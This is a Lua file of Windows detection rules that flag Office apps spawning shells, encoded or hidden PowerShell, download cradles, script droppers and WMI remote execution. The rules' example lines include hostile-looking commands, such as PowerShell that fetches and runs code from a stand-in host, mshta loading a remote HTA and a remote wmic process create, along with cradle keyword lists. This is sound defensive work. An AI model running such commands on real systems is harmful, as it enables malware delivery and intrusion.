-- Windows execution: script hosts, PowerShell, Office children.
local rules = require "etwlua.rules"
local m = require "etwlua.match"
local enc = require "etwlua.encoding"

local office = m.set { "winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "msaccess.exe", "mspub.exe",
                       "visio.exe", "onenote.exe", "eqnedt32.exe" }
local shells = m.set { "cmd.exe", "powershell.exe", "pwsh.exe", "wscript.exe", "cscript.exe", "mshta.exe",
                       "rundll32.exe", "regsvr32.exe", "bitsadmin.exe", "certutil.exe", "schtasks.exe", "wmic.exe",
                       "msbuild.exe", "installutil.exe" }
local ps = m.set { "powershell.exe", "pwsh.exe", "powershell_ise.exe" }

rules.define {
  id = "win.office_spawns_shell", platform = "windows", severity = "high",
  needs = { parent_name = office },
  title = "Office application starts a shell or script host",
  description = "Word, Excel, PowerPoint, Outlook and friends have no reason to start cmd, PowerShell, script "
    .. "hosts or LOLBins; macro and exploit payloads do exactly that.",
  technique = { "T1204.002", "T1059" },
  references = { "https://attack.mitre.org/techniques/T1204/002/" },
  falsepositives = { "Office add-ins that shell out (rare; allow-list the add-in's command line)" },
  match = function(p) return office[p.parent_name or ""] and shells[p.name or ""] end,
  examples = {
    positive = {
      { image = [[C:\Windows\System32\cmd.exe]], command_line = [[cmd.exe /c powershell -nop -c iex(...)]],
        parent_image = [[C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE]] },
      { image = [[C:\Windows\System32\mshta.exe]], command_line = [[mshta http://x/a.hta]],
        parent_image = [[C:\Program Files (x86)\Microsoft Office\Office14\EXCEL.EXE]] },
    },
    negative = {
      { image = [[C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE]],
        parent_image = [[C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE]] },
      { image = [[C:\Windows\System32\cmd.exe]], parent_image = [[C:\Windows\explorer.exe]] },
    },
  },
}

rules.define {
  id = "win.powershell_encoded_command", platform = "windows", severity = "high",
  names = ps,
  title = "PowerShell with an encoded command",
  description = "-EncodedCommand (in any abbreviation, with -, / or a dash lookalike) hides the script from "
    .. "casual review; the decoded text is in the alert.",
  technique = { "T1059.001", "T1027" },
  references = { "https://learn.microsoft.com/powershell/module/microsoft.powershell.core/about/about_pwsh" },
  falsepositives = { "Management agents (SCCM, some RMM tools) that always encode" },
  match = function(p)
    if p.encoded then return true, "decoded: " .. (p.decoded_text or "(not base64)") end
  end,
  examples = {
    positive = {
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=" },
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = "powershell.exe \u{2013}EncodedC SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=" },
      { image = [[C:\Program Files\PowerShell\7\pwsh.exe]],
        command_line = "pwsh /ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=" },
    },
    negative = {
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell -ExecutionPolicy Bypass -File C:\scripts\backup.ps1]] },
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell -Command "Get-Content x.txt -Encoding UTF8"]] },
    },
  },
}

local hidden = m.wildcards { "* -w* h*", "* /w* h*", "*-windowstyle hidden*", "*-win hid*" }
rules.define {
  id = "win.powershell_hidden_window", platform = "windows", severity = "medium",
  names = ps,
  title = "PowerShell started with a hidden window",
  description = "A hidden window keeps a script out of the user's sight; common in loaders and persistence.",
  technique = { "T1564.003", "T1059.001" },
  falsepositives = { "Scheduled maintenance scripts" },
  match = function(p)
    -- the two finds first: they fail on most lines, and the wildcards are the costlier test
    local c = p.cl
    return (c:find("%-w%a*%s+h") or c:find("/w%a*%s+h")) ~= nil and hidden(p.command_line)
  end,
  examples = {
    positive = {
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell -w hidden -c "Start-Sleep 1"]] },
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell.exe -NoProfile -WindowStyle Hidden -File run.ps1]] },
    },
    negative = {
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell -NoProfile -File run.ps1]] },
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell -Command Write-Host hello]] },
    },
  },
}

local cradle = m.wildcards { "*downloadstring*http*", "*downloadfile*http*", "*downloaddata*http*",
                             "*invoke-webrequest*http*", "*iwr *http*", "*net.webclient*", "*start-bitstransfer*http*",
                             "*invoke-restmethod*http*", "*irm *http*" }
rules.define {
  id = "win.powershell_download_cradle", platform = "windows", severity = "high",
  names = ps,
  needs = { command_line = { "downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "iwr ",
                             "net.webclient", "start-bitstransfer", "invoke-restmethod", "irm " } },
  title = "PowerShell downloads code from the network",
  description = "Download cradles (WebClient.DownloadString, Invoke-WebRequest...) pull the next stage; with IEX "
    .. "it runs in memory.",
  technique = { "T1059.001", "T1105" },
  falsepositives = { "Installers and admin scripts that fetch packages" },
  match = function(p) return cradle(p.command_line) end,
  examples = {
    positive = {
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"]] },
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell iwr https://x.test/p.exe -OutFile $env:TEMP\p.exe]] },
    },
    negative = {
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        command_line = [[powershell Get-ChildItem C:\Users]] },
      { image = [[C:\Windows\System32\cmd.exe]], command_line = [[cmd /c echo DownloadString http://x]] },
    },
  },
}

local script_ext = m.set { "js", "jse", "vbs", "vbe", "wsf", "hta" }
local user_dirs = m.wildcards { "*\\users\\*\\appdata\\*", "*\\temp\\*", "*\\downloads\\*", "*\\users\\public\\*",
                                "*\\programdata\\*" }
rules.define {
  id = "win.script_host_runs_user_script", platform = "windows", severity = "medium",
  names = { "wscript.exe", "cscript.exe" },
  title = "Script host runs a script from a user-writable folder",
  description = "wscript/cscript running .js/.vbs from Downloads, Temp or AppData is how most script droppers "
    .. "start.",
  technique = { "T1059.005", "T1059.007" },
  falsepositives = { "Logon scripts kept in user folders" },
  match = function(p)
    for _, a in ipairs(p.args) do
      local e = m.ext(a)
      if e and script_ext[e] and user_dirs(a) then return true end
    end
  end,
  examples = {
    positive = {
      { image = [[C:\Windows\System32\wscript.exe]],
        command_line = [["C:\Windows\System32\WScript.exe" "C:\Users\bob\Downloads\invoice.js"]] },
      { image = [[C:\Windows\System32\cscript.exe]], command_line = [[cscript //nologo C:\Users\bob\AppData\Local\Temp\x.vbs]] },
    },
    negative = {
      { image = [[C:\Windows\System32\cscript.exe]], command_line = [[cscript //nologo C:\Windows\System32\slmgr.vbs /dli]] },
      { image = [[C:\Windows\System32\notepad.exe]], command_line = [[notepad C:\Users\bob\Downloads\a.js]] },
    },
  },
}

rules.define {
  id = "win.wmiprvse_spawns_shell", platform = "windows", severity = "high",
  needs = { parent_name = { "wmiprvse.exe" } },
  title = "WMI provider host starts a shell",
  description = "wmiprvse.exe starting cmd or PowerShell is the footprint of remote WMI execution "
    .. "(Invoke-WmiMethod, wmiexec).",
  technique = { "T1047" },
  falsepositives = { "Management tools that run commands through WMI" },
  match = function(p) return p.parent_name == "wmiprvse.exe" and shells[p.name or ""] end,
  examples = {
    positive = {
      { image = [[C:\Windows\System32\cmd.exe]], command_line = [[cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1 2>&1]],
        parent_image = [[C:\Windows\System32\wbem\WmiPrvSE.exe]] },
      { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
        parent_image = [[C:\Windows\System32\wbem\WmiPrvSE.exe]] },
    },
    negative = {
      { image = [[C:\Windows\System32\cmd.exe]], parent_image = [[C:\Windows\explorer.exe]] },
      { image = [[C:\Windows\System32\wbem\WmiPrvSE.exe]], parent_image = [[C:\Windows\System32\svchost.exe]] },
    },
  },
}

rules.define {
  id = "win.wmic_process_create", platform = "windows", severity = "high",
  names = { "wmic.exe" },
  title = "wmic starts a process",
  description = "wmic process call create runs a command, often on another host with /node:.",
  technique = { "T1047" },
  falsepositives = { "Old admin scripts" },
  match = function(p)
    local c = (p.command_line or ""):lower()
    return c:find("process") and c:find("call") and c:find("create")
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\wbem\WMIC.exe]],
                   command_line = [[wmic /node:10.0.0.8 process call create "cmd /c calc"]] } },
    negative = { { image = [[C:\Windows\System32\wbem\WMIC.exe]], command_line = [[wmic process list brief]] },
                 { image = [[C:\Windows\System32\wbem\WMIC.exe]], command_line = [[wmic os get caption]] } },
  },
}
